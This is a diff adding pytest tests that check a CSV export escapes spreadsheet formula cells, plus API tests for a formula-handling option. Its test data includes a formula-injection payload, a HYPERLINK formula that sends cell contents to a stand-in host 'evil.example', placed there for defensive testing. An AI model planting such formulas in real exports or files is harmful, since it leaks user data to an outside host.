@@ -151,6 +151,32 @@ def test_export_round_trip_json_and_csv(store):
     assert float(row["confidence_score"]) == pytest.approx(0.7)
 
 
+@pytest.mark.parametrize("value", [
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(A1:A2)",
+    "\tleading tab", "'=already quoted", "''=twice", "'plain apostrophe", "''", "'", "plain"])
+def test_csv_export_escapes_formula_cells_reversibly(store, value):
+    from promptsentry.optimizer.store import (
+        escape_csv_formula,
+        export_csv_lines,
+        unescape_csv_formula,
+    )
+
+    value += " and more"
+    _make(store, "t1", original_prompt=value, optimized_prompt=value)
+    [row] = list(csv.DictReader(io.StringIO("".join(export_csv_lines(store.iter_all("t1"))),
+                                            newline="")))
+    risky = value.lstrip("'")[:1] in ("=", "+", "-", "@", "\t")
+    assert row["original_prompt"] == ("'" + value if risky else value)
+    assert row["original_prompt"] == escape_csv_formula(value)
+    assert unescape_csv_formula(row["original_prompt"]) == value
+    assert unescape_csv_formula(row["title"]) == row["title"] == "t"
+    # a spreadsheet never sees a formula start in an escaped export
+    assert not any(v[:1] in ("=", "+", "-", "@", "\t") for v in row.values())
+    [kept] = list(csv.DictReader(io.StringIO(
+        "".join(export_csv_lines(store.iter_all("t1"), escape_formulas=False)), newline="")))
+    assert kept["original_prompt"] == kept["optimized_prompt"] == value
+
+
 def test_purge_90_days_after_tenant_deletion(engine, clock):
     sql = SqlStore(engine)
     store = TemplateStore(engine, clock=clock)
@@ -209,6 +235,13 @@ async def test_api_tenant_isolation_export_and_public_routes(asgi, make_key):
     assert r.json() == []
     r = await asgi.get("/api/v1/templates/export", headers=ha, params={"format": "xml"})
     assert r.status_code == 422 and r.json()["error"]["code"] == "INVALID_REQUEST"
+    r = await asgi.get("/api/v1/templates/export", headers=ha,
+                       params={"format": "csv", "csv_formulas": "run"})
+    assert r.status_code == 422 and r.json()["error"]["code"] == "INVALID_REQUEST"
+    r = await asgi.get("/api/v1/templates/export", headers=ha,
+                       params={"format": "csv", "csv_formulas": "keep"})
+    assert r.status_code == 200
+    assert list(csv.DictReader(io.StringIO(r.text, newline="")))[0]["original_prompt"] == STORED
 
 
 async def test_save_template_opt_out(asgi, make_key):
